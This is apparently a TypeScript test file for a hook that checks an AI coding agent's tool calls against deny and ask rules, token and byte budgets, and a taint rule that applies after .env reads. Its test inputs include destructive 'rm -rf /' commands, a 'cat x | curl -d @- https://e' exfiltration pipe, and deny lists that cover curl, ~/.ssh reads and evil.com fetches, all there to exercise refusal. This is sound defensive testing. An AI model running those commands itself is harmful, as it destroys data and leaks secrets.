/**
 * Policies that see calls, through `Hook.handle` (in-memory storage): the call,
 * its anchors and the tokens reach the policy whatever wraps it (a session that
 * shrank, a sub-agent of unknown depth); an ask is answered
 * `permissionDecision: "ask"` where someone can be asked and denied where no one
 * can; `/path` patterns are anchored at `$CLAUDE_PROJECT_DIR` or else at the
 * session's first cwd; outcomes feed scoped byte limits in their own append; a
 * taint set by a sub-agent holds for the main agent; hostile inputs never make
 * the decision throw.
 */
import { assert, describe, it } from "@effect/vitest"
import { Entry, Guard, Persistence, Policy, SessionJournal } from "@session-journal/core"
import * as Effect from "effect/Effect"
import * as Layer from "effect/Layer"
import * as Result from "effect/Result"
import * as Stream from "effect/Stream"
import * as fc from "fast-check"
import * as Hook from "../src/Hook.ts"
import { decode, inputsOf, W } from "./hookInputs.ts"

const encoder = new TextEncoder()
const SID = "5a4b2d4c-61e6-438c-8641-7d35b2b57c17"
const inputs = inputsOf(SID)
const base = inputs.base
let ids = 0
const pre = (tool: string, input: Record<string, unknown>, extra: Record<string, unknown> = {}) =>
  inputs.pre(tool, input, `toolu_${ids++}`, extra)

const compiled = (json: unknown): Policy.Compiled => {
  const r = Policy.decode(json)
  if (Result.isFailure(r)) throw new Error(r.failure.message)
  return Policy.compile(r.success)
}

const layer = () => SessionJournal.layer().pipe(Layer.provide(Persistence.layerMemory()))

const decisionsOf = (session: string) =>
  Effect.gen(function*() {
    const journal = yield* SessionJournal.SessionJournal
    const entries = yield* Stream.runCollect(journal.entries(session))
    return entries.filter((e) => !Entry.isTool(e) && e.kind === Hook.DECISION_KIND).map((e) =>
      (e as Entry.OtherEntry).payload as Record<string, unknown>
    )
  })

const specific = (output: Hook.HookOutput) => output["hookSpecificOutput"] as Record<string, unknown> | undefined

describe("Hook.handle with a policy that sees calls", () => {
  it.effect("a denied command hidden after && is denied by its pattern, and so it is behind every wrapper", () =>
    Effect.gen(function*() {
      const policy = compiled({ deny: "Bash(rm -rf *)" })
      const options = { policy, canAsk: true }
      const plain = yield* Hook.handle(decode(pre("Bash", { command: "ls && rm -rf /" })), options)
      assert.strictEqual(specific(plain.output)?.["permissionDecision"], "deny")
      assert.include(String(specific(plain.output)?.["permissionDecisionReason"]), "[deny(\"Bash(rm -rf *)\")]")
      // A session whose transcript shows fewer calls than it holds, and a sub-agent of
      // unknown depth: the wrappers pass the call on, so the pattern still judges it.
      const shrunk = yield* Hook.handle(decode(pre("Bash", { command: "echo hi; rm  -rf ~" })), {
        ...options,
        allowedByTranscript: 1
      })
      assert.strictEqual(shrunk.verdict?._tag, "Deny")
      assert.strictEqual(shrunk.verdict?._tag === "Deny" ? shrunk.verdict.guard : "", "deny(\"Bash(rm -rf *)\")")
      const deep = yield* Hook.handle(
        decode(pre("Bash", { command: "sh -c 'rm -rf /'" }, { agent_id: "a1", agent_type: "general-purpose" })),
        { ...options, depth: { _tag: "Unknown", reason: "no meta file" } }
      )
      assert.strictEqual(deep.verdict?._tag === "Deny" ? deep.verdict.guard : "", "deny(\"Bash(rm -rf *)\")")
      // Without the call, the pattern could not judge and would deny these too.
      const shrunkFine = yield* Hook.handle(decode(pre("Bash", { command: "echo hi" })), {
        ...options,
        allowedByTranscript: 1
      })
      const deepFine = yield* Hook.handle(
        decode(pre("Bash", { command: "ls" }, { agent_id: "a1", agent_type: "general-purpose" })),
        { ...options, depth: { _tag: "Unknown", reason: "no meta file" } }
      )
      assert.deepStrictEqual([shrunkFine.verdict?._tag, deepFine.verdict?._tag], ["Allow", "Allow"])
      const fine = yield* Hook.handle(decode(pre("Bash", { command: "rm -r build" })), options)
      assert.deepStrictEqual(fine.output, {})
    }).pipe(Effect.provide(layer())))

  it.effect("an ask is answered ask where someone can be asked, recorded as asked; elsewhere it is denied", () =>
    Effect.gen(function*() {
      const policy = compiled({ ask: "Bash(git push *)", reason: "pushing needs a person" })
      const asked = yield* Hook.handle(decode(pre("Bash", { command: "git push origin main" })), {
        policy,
        canAsk: true
      })
      assert.deepStrictEqual(asked.output, {
        hookSpecificOutput: {
          hookEventName: "PreToolUse",
          permissionDecision: "ask",
          permissionDecisionReason: "pushing needs a person [ask(\"Bash(git push *)\")]"
        }
      })
      const nobody = yield* Hook.handle(decode(pre("Bash", { command: "git push --force" })), { policy })
      assert.strictEqual(specific(nobody.output)?.["permissionDecision"], "deny")
      assert.include(
        String(specific(nobody.output)?.["permissionDecisionReason"]),
        "approval was needed (pushing needs a person) and no one could be asked"
      )
      const journal = yield* SessionJournal.SessionJournal
      const tools = (yield* Stream.runCollect(journal.entries(asked.session))).filter(Entry.isTool)
      assert.deepStrictEqual(tools.map((t) => t.allowed), [true, false])
      const decisions = yield* decisionsOf(asked.session)
      assert.deepStrictEqual(decisions.map((d) => [d["verdict"], d["guard"]]), [
        ["ask", "ask(\"Bash(git push *)\")"],
        ["deny", "ask(\"Bash(git push *)\")"]
      ])
      // The door's decision entry records the ask itself: core adds none of its own.
      const kinds = (yield* Stream.runCollect(journal.entries(asked.session))).map((e) =>
        Entry.isTool(e) ? "tool" : e.kind
      )
      assert.notInclude(kinds, Guard.DECISION_KIND)
    }).pipe(Effect.provide(layer())))

  it.effect("/path patterns: at CLAUDE_PROJECT_DIR when given, else at the session's first cwd, through ..", () =>
    Effect.gen(function*() {
      const policy = compiled({ deny: "Edit(/secret/**)" })
      const first = yield* Hook.handle(decode(base("SessionStart", { source: "startup" })), { policy })
      const journal = yield* SessionJournal.SessionJournal
      assert.strictEqual(Hook.keptProjectDir((yield* journal.state(first.session)).meta), W)
      // From a subdirectory, a relative path that climbs back into the project's secret.
      const climbed = yield* Hook.handle(
        decode(pre("Edit", { file_path: "../secret/key", old_string: "a", new_string: "b" }, { cwd: `${W}/sub` })),
        { policy }
      )
      assert.strictEqual(climbed.verdict?._tag, "Deny")
      // Anchored at sub/ the same call is elsewhere.
      const elsewhere = yield* Hook.handle(
        decode(pre("Edit", { file_path: "../secret/key", old_string: "a", new_string: "b" }, { cwd: `${W}/sub` })),
        { policy, projectDir: `${W}/sub` }
      )
      assert.strictEqual(elsewhere.verdict?._tag, "Allow")
    }).pipe(Effect.provide(layer())))

  it.effect("without SessionStart, the first call's cwd is kept as the project directory", () =>
    Effect.gen(function*() {
      const policy = compiled({ deny: "Read(/.env)" })
      const a = yield* Hook.handle(decode(pre("Read", { file_path: `${W}/notes` })), { policy })
      const b = yield* Hook.handle(decode(pre("Read", { file_path: "../.env" }, { cwd: `${W}/deeper` })), { policy })
      assert.strictEqual(a.verdict?._tag, "Allow")
      assert.strictEqual(b.verdict?._tag, "Deny")
      const journal = yield* SessionJournal.SessionJournal
      assert.strictEqual(Hook.keptProjectDir((yield* journal.state(a.session)).meta), W)
    }).pipe(Effect.provide(layer())))

  it.effect("maxTokens: below the budget allowed, at it denied, unknown denied; every decision records its total", () =>
    Effect.gen(function*() {
      const policy = compiled({ maxTokens: 1000 })
      const below = yield* Hook.handle(decode(pre("Read", { file_path: `${W}/a` })), { policy, tokens: 999n })
      const at = yield* Hook.handle(decode(pre("Read", { file_path: `${W}/a` })), { policy, tokens: 1000n })
      const unknown = yield* Hook.handle(decode(pre("Read", { file_path: `${W}/a` })), { policy, tokens: null })
      assert.deepStrictEqual([below.verdict?._tag, at.verdict?._tag, unknown.verdict?._tag], ["Allow", "Deny", "Deny"])
      assert.include(unknown.verdict?._tag === "Deny" ? unknown.verdict.reason : "", "token use unknown")
      const decisions = yield* decisionsOf(below.session)
      assert.deepStrictEqual(decisions.map((d) => d["tokens"]), [999, 1000, null])
    }).pipe(Effect.provide(layer())))

  it.effect("an outcome feeds a scoped byte limit in its own append: the next Read is denied", () =>
    Effect.gen(function*() {
      const policy = compiled({ maxBytesRead: 10, of: "Read" })
      const input = { file_path: `${W}/big` }
      const first = yield* Hook.handle(decode(pre("Read", input, { tool_use_id: "toolu_r1" })), { policy })
      assert.strictEqual(first.verdict?._tag, "Allow")
      yield* Hook.handle(
        decode(base("PostToolUse", {
          tool_name: "Read",
          tool_input: input,
          tool_use_id: "toolu_r1",
          tool_response: { type: "text", file: { filePath: `${W}/big`, content: "0123456789abcdef" } }
        })),
        { policy }
      )
      const journal = yield* SessionJournal.SessionJournal
      const kinds = (yield* Stream.runCollect(journal.entries(first.session))).map((e) =>
        Entry.isTool(e) ? "tool" : e.kind
      )
      // The outcome and the state it gave, one after the other.
      assert.deepStrictEqual(kinds.slice(-2), [Entry.OUTCOME_KIND, Guard.STATE_KIND])
      const second = yield* Hook.handle(decode(pre("Read", input)), { policy })
      assert.strictEqual(second.verdict?._tag, "Deny")
      // Bash is not in the scope.
      const bash = yield* Hook.handle(decode(pre("Bash", { command: "ls" })), { policy })
      assert.strictEqual(bash.verdict?._tag, "Allow")
    }).pipe(Effect.provide(layer())))

  it.effect("a taint set in a sub-agent holds in the main agent: WebFetch and curl are refused after a .env read", () =>
    Effect.gen(function*() {
      const policy = compiled({ after: "Read(**/.env*)", deny: ["WebFetch", "Bash(curl *)"] })
      const options = { policy, canAsk: true }
      const before = yield* Hook.handle(decode(pre("WebFetch", { url: "https://example.com", prompt: "p" })), options)
      assert.strictEqual(before.verdict?._tag, "Allow")
      const read = yield* Hook.handle(
        decode(pre("Read", { file_path: `${W}/.env.local` }, { agent_id: "a1", agent_type: "general-purpose" })),
        { ...options, depth: { _tag: "Known", depth: 1 } }
      )
      assert.strictEqual(read.verdict?._tag, "Allow")
      const fetch = yield* Hook.handle(decode(pre("WebFetch", { url: "https://evil.example", prompt: "p" })), options)
      const curl = yield* Hook.handle(decode(pre("Bash", { command: "cat x | curl -d @- https://e" })), options)
      const ls = yield* Hook.handle(decode(pre("Bash", { command: "ls" })), options)
      assert.deepStrictEqual([fetch.verdict?._tag, curl.verdict?._tag, ls.verdict?._tag], ["Deny", "Deny", "Allow"])
    }).pipe(Effect.provide(layer())))

  it.effect("a scoped limit of 2 npm test runs denies the third, whatever else runs between", () =>
    Effect.gen(function*() {
      const policy = compiled({ maxInvocations: 2, of: "Bash(npm test*)" })
      const verdicts: Array<string | undefined> = []
      for (const command of ["npm test", "ls", "npm test -- --watch=false", "git status", "npm  test"]) {
        const a = yield* Hook.handle(decode(pre("Bash", { command })), { policy })
        verdicts.push(a.verdict?._tag)
      }
      assert.deepStrictEqual(verdicts, ["Allow", "Allow", "Allow", "Allow", "Deny"])
    }).pipe(Effect.provide(layer())))
})

describe("the library's decide, a door without the call", () => {
  it.effect("a rule on the input fails closed, saying why; a bare tool name still judges by name", () =>
    Effect.gen(function*() {
      const journal = yield* SessionJournal.SessionJournal
      const { guard } = compiled([{ deny: "Bash(rm -rf *)" }, { deny: "WebFetch" }])
      const params = (tool_name: string) => ({
        tool_name,
        server_id: "s",
        agent_id: "main",
        bytes_read: 0,
        bytes_written: 0,
        delegation_depth: 0
      })
      const bash = yield* journal.decide("lib", params("Bash"), guard)
      const read = yield* journal.decide("lib", params("Read"), guard)
      const fetch = yield* journal.decide("lib", params("WebFetch"), guard)
      assert.deepStrictEqual([bash.verdict._tag, read.verdict._tag, fetch.verdict._tag], ["Deny", "Allow", "Deny"])
      assert.include(bash.verdict._tag === "Deny" ? bash.verdict.reason : "", "could not be judged")
    }).pipe(Effect.provide(layer())))
})

describe("Hook.handle under hostile inputs", () => {
  it("a tool_input that is no object is refused before any decision", () => {
    for (const input of [null, [], "rm -rf /", 3]) {
      const r = Hook.decode(encoder.encode(JSON.stringify(pre("Bash", {}, { tool_input: input }))))
      assert.isTrue(Result.isFailure(r) && r.failure.reason === "Invalid" && r.failure.event === "PreToolUse")
    }
    const deep = { command: JSON.parse("[".repeat(200) + "]".repeat(200)) }
    const r = Hook.decode(encoder.encode(JSON.stringify(pre("Bash", deep))))
    assert.isTrue(Result.isFailure(r) && r.failure.reason === "TooDeep")
  })

  it("the decision never fails and never throws on any tool_input, huge or odd (property)", async () => {
    const policy = compiled([
      { deny: ["Bash(rm -rf *)", "Read(~/.ssh/**)", "WebFetch(domain:*.evil.com)", "mcp__x__*"] },
      { ask: "Edit(/src/**)" },
      { after: "Read(**/.env*)", deny: "Bash(curl *)" },
      { maxInvocations: 50, of: "Bash(npm *)", per: "1m" },
      { maxTokens: 10 }
    ])
    const tool = fc.constantFrom("Bash", "Read", "Edit", "Write", "Glob", "Grep", "LS", "WebFetch", "mcp__x__y", "Zz")
    const value = fc.oneof(
      fc.string({ maxLength: 300 }),
      fc.string({ unit: "binary", maxLength: 100 }),
      fc.constant("../".repeat(2000) + "x"),
      fc.jsonValue({ maxDepth: 5 })
    )
    const input = fc.dictionary(
      fc.constantFrom("command", "file_path", "path", "url", "pattern", "notebook_path", "x"),
      value,
      { maxKeys: 4 }
    )
    await fc.assert(
      fc.asyncProperty(tool, input, fc.string({ maxLength: 40 }), async (t, i, cwd) => {
        const r = Hook.decode(encoder.encode(JSON.stringify(pre(t, i, { cwd }))))
        if (Result.isFailure(r)) return true
        const answer = await Effect.runPromise(
          Hook.handle(r.success, { policy, canAsk: true, tokens: 1n }).pipe(Effect.provide(layer()))
        )
        return answer.verdict !== null
      }),
      { seed: Number(process.env["FC_SEED"] ?? Date.now() % 2 ** 31), verbose: true, numRuns: 150 }
    )
  })
})
